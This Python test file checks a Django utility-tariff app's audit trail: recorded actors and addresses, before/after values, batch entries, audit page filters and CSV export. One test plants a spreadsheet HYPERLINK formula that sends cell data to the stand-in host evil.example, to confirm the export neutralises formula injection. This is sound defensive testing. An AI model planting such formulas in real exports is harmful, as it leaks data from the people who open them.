"""The audit trail: row changes with actor, address and before -> after; batch entries; the audit page."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from auditlog.models import LogEntry
from django.contrib.auth import get_user_model
from django.contrib.contenttypes.models import ContentType
from django.test import Client
from django.utils import timezone

from wattdesk.domain import audit
from wattdesk.domain.access import roles
from wattdesk.domain.access.operations import grant_role
from wattdesk.domain.tariffs.models import TariffVersion

PASSWORD = "Audit-pass-2026!"


def _doc(price: str) -> dict[str, Any]:
    return {
        "code": "RES-FLAT",
        "energy": {"rates": [{"period": "flat", "price": price}, {"period": "valley", "price": "0.3000"}]},
    }


@pytest.fixture
def fast_hasher(settings: Any) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def admin_login(db: None, fast_hasher: None) -> Any:
    user = get_user_model().objects.create_user(
        "auditor_admin", password=PASSWORD, is_staff=True, is_superuser=True
    )
    grant_role(user=user, role=roles.ADMIN)
    return user


@pytest.fixture
def tariff(db: None) -> TariffVersion:
    return TariffVersion.objects.create(
        code="RES-FLAT",
        version="2026",
        effective_from=date(2026, 1, 1),
        name="居民平价",
        document=_doc("0.5283"),
    )


def _logged_in(user: Any) -> Client:
    client = Client()
    assert client.login(username=user.username, password=PASSWORD)
    return client


class TestTariffPriceChangeThroughAdmin:
    def test_records_actor_address_and_price_before_after(
        self, admin_login: Any, tariff: TariffVersion
    ) -> None:
        client = _logged_in(admin_login)
        url = f"/admin/tariffs/tariffversion/{tariff.pk}/change/"
        assert client.get(url).status_code == 200
        response = client.post(
            url,
            {
                "code": "RES-FLAT",
                "version": "2026",
                "effective_from": "2026-01-01",
                "effective_to": "",
                "name": "居民平价",
                "document": json.dumps(_doc("0.5583")),
            },
            REMOTE_ADDR="10.20.30.40",
        )
        assert response.status_code == 302, response.content[:500]
        tariff.refresh_from_db()
        assert tariff.document["energy"]["rates"][0]["price"] == "0.5583"

        ct = ContentType.objects.get_for_model(TariffVersion)
        entry = LogEntry.objects.get(content_type=ct, object_pk=str(tariff.pk), action=LogEntry.Action.UPDATE)
        assert entry.actor == admin_login
        assert entry.remote_addr == "10.20.30.40"
        assert set(entry.changes) == {"document"}
        rows = audit.change_rows(entry)
        assert rows == [audit.ChangeRow("document.energy.rates[0].price", "0.5283", "0.5583")]

    def test_the_audit_page_and_csv_show_the_change(self, admin_login: Any, tariff: TariffVersion) -> None:
        client = _logged_in(admin_login)
        tariff.document = _doc("0.6001")
        tariff.save()
        ct = ContentType.objects.get_for_model(TariffVersion)
        page = client.get("/audit/", {"model": ct.pk})
        assert page.status_code == 200
        html = page.content.decode()
        assert "document.energy.rates[0].price" in html
        assert "0.5283 → 0.6001" in html
        export = client.get("/audit/export.csv", {"model": ct.pk})
        assert export.status_code == 200
        assert export["Content-Type"].startswith("text/csv")
        text = b"".join(export.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
        rows = list(csv.DictReader(io.StringIO(text)))
        price = [
            r for r in rows if r["field"] == "document.energy.rates[0].price" and r["action"] == "update"
        ]
        assert len(price) == 1
        assert (price[0]["before"], price[0]["after"], price[0]["model"]) == (
            "0.5283",
            "0.6001",
            "tariffs.tariffversion",
        )


class TestRequestContext:
    def test_spoofed_forwarded_for_is_ignored_without_a_proxy(
        self, admin_login: Any, tariff: TariffVersion
    ) -> None:
        client = _logged_in(admin_login)
        client.post(
            f"/admin/tariffs/tariffversion/{tariff.pk}/change/",
            {"code": "RES-FLAT", "version": "2026", "effective_from": "2026-01-01", "effective_to": "",
             "name": "居民平价 新", "document": json.dumps(_doc("0.5283"))},
            REMOTE_ADDR="10.0.0.7",
            HTTP_X_FORWARDED_FOR="1.2.3.4",
        )  # fmt: skip
        ct = ContentType.objects.get_for_model(TariffVersion)
        entry = LogEntry.objects.get(content_type=ct, object_pk=str(tariff.pk), action=LogEntry.Action.UPDATE)
        assert entry.remote_addr == "10.0.0.7"
        assert entry.changes == {"name": ["居民平价", "居民平价 新"]}

    def test_role_membership_is_audited(self, admin_login: Any) -> None:
        user = get_user_model().objects.create_user("clerk_x", password=PASSWORD)
        grant_role(user=user, role=roles.BILLING_CLERK)
        user_ct = ContentType.objects.get_for_model(user)
        entry = LogEntry.objects.get(content_type=user_ct, object_pk=str(user.pk), changes__has_key="groups")
        assert entry.changes["groups"]["operation"] == "add"
        assert entry.changes["groups"]["objects"] == [roles.BILLING_CLERK]
        assert not LogEntry.objects.filter(content_type=user_ct, changes__has_key="password").exists()


class TestRecordBatch:
    def test_one_entry_per_run(self, admin_login: Any) -> None:
        entry = audit.record_batch(
            actor=admin_login,
            action="billing.run",
            object_repr="billing run 7 2026-10",
            object_pk=7,
            changes={"status": ("running", "done"), "bills": 1234, "total": Decimal("98.10")},
        )
        entry.refresh_from_db()
        assert entry.actor == admin_login
        assert entry.content_type.model_class() is audit.apps.get_model(audit.BATCH_MODEL)
        assert entry.changes == {
            "status": ["running", "done"],
            "bills": [None, 1234],
            "total": [None, "98.10"],
        }
        assert audit.action_label(entry) == "batch billing.run"
        assert audit.entries(username="auditor_admin").filter(pk=entry.pk).exists()
        assert not audit.entries(username="someone_else").filter(pk=entry.pk).exists()
        day = timezone.localdate(entry.timestamp)
        assert audit.entries(date_from=day, date_to=day).filter(pk=entry.pk).exists()
        assert not audit.entries(date_to=day - timedelta(days=1)).filter(pk=entry.pk).exists()
        assert not audit.entries(date_from=day + timedelta(days=1)).filter(pk=entry.pk).exists()


class TestHostileFilters:
    @pytest.mark.parametrize(
        "query",
        [
            {"model": "9" * 30},
            {"model": "99999999999"},
            {"model": "²"},
            {"model": "٣"},
            {"to": "9999-12-31"},
            {"from": "0001-01-01"},
        ],
    )
    def test_a_bad_filter_is_an_error_on_the_page_and_a_400_export(
        self, admin_login: Any, tariff: TariffVersion, query: dict[str, str]
    ) -> None:
        client = _logged_in(admin_login)
        page = client.get("/audit/", query)
        assert page.status_code == 200 and page.context["filters"].errors
        export = client.get("/audit/export.csv", query)
        assert export.status_code == 400
        assert not export.streaming and export.content.decode()

    def test_a_model_the_filter_does_not_offer_is_refused(
        self, admin_login: Any, tariff: TariffVersion
    ) -> None:
        unaudited = ContentType.objects.get_for_model(ContentType)
        client = _logged_in(admin_login)
        assert client.get("/audit/export.csv", {"model": unaudited.pk}).status_code == 400


class TestExportNeutralisesFormulas:
    def test_text_a_spreadsheet_would_run_is_quoted(self, admin_login: Any, tariff: TariffVersion) -> None:
        tariff.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        tariff.save()
        client = _logged_in(admin_login)
        ct = ContentType.objects.get_for_model(TariffVersion)
        export = client.get("/audit/export.csv", {"model": ct.pk})
        text = b"".join(export.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
        rows = list(csv.DictReader(io.StringIO(text)))
        (name,) = [r for r in rows if r["field"] == "name" and r["action"] == "update"]
        assert name["after"] == "'" + tariff.name
        assert name["before"] == "居民平价"
        for r in rows:
            for cell in r.values():
                assert cell.lstrip(" ")[:1] not in ("=", "+", "@", "\t", "\r"), r
